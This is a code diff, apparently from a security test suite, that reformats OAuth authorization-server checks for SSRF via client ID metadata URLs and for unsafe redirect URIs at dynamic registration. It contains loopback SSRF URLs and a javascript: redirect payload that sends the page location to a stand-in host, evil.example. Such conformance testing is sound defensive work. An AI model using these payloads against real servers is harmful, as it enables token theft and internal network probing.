@@ -35,7 +35,8 @@ function ssrf(id: string, title: string, clientId: (port: number) => string): At
     defence: 'ssrf-guard',
     rule: 'CIMD draft (SSRF), RFC 6890',
     run: onAuthorizationServer(async (_ctx, as) => {
-      if (as.metadata.client_id_metadata_document_supported !== true) return notApplicable('it does not accept client ID metadata documents')
+      if (as.metadata.client_id_metadata_document_supported !== true)
+        return notApplicable('it does not accept client ID metadata documents')
       return withTrap(async (port) => {
         const client = { client_id: clientId(port), token_endpoint_auth_method: 'none', redirect_uris: [CALLBACK] }
         return blocked(describe((await as.start({ client })).reply))
@@ -55,7 +56,9 @@ function register(id: string, title: string, redirectUri: string, rule: string):
     run: onAuthorizationServer(async (_ctx, as) => {
       if (typeof as.metadata.registration_endpoint !== 'string') return notApplicable('no registration endpoint')
       const reply = await as.register({ client_name: 'Totally legit', redirect_uris: [redirectUri], token_endpoint_auth_method: 'none' })
-      return reply.status === 201 ? gotThrough(`client ${reply.json?.client_id} registered with redirect URI ${redirectUri}`) : blocked(describe(reply))
+      return reply.status === 201
+        ? gotThrough(`client ${reply.json?.client_id} registered with redirect URI ${redirectUri}`)
+        : blocked(describe(reply))
     }),
   }
 }
@@ -66,7 +69,17 @@ export const clientMetadataAttacks: Attack[] = [
   ssrf('cimd-http-loopback', 'a plain-http client id URL on 127.0.0.1', (port) => `http://127.0.0.1:${port}/client.json`),
   ssrf('cimd-mapped-ipv6', 'loopback in IPv6 disguise ([::ffff:7f00:1])', (port) => `https://[::ffff:7f00:1]:${port}/client.json`),
   // RFC 7591 §5 and OAuth 2.1 §2.3.1: what a redirect URI may be.
-  register('register-javascript', 'register a javascript: redirect URI', 'javascript:fetch("https://evil.example/?"+location)//', 'RFC 7591 §5, OAuth 2.1 §2.3.1'),
+  register(
+    'register-javascript',
+    'register a javascript: redirect URI',
+    'javascript:fetch("https://evil.example/?"+location)//',
+    'RFC 7591 §5, OAuth 2.1 §2.3.1',
+  ),
   register('register-fragment', 'register a redirect URI with a fragment', 'https://client.example/cb#evil', 'RFC 6749 §3.1.2'),
-  register('register-remote-http', 'register a plain-http redirect URI on another host', 'http://client.example/cb', 'OAuth 2.1 §2.3.1, §1.5'),
+  register(
+    'register-remote-http',
+    'register a plain-http redirect URI on another host',
+    'http://client.example/cb',
+    'OAuth 2.1 §2.3.1, §1.5',
+  ),
 ]
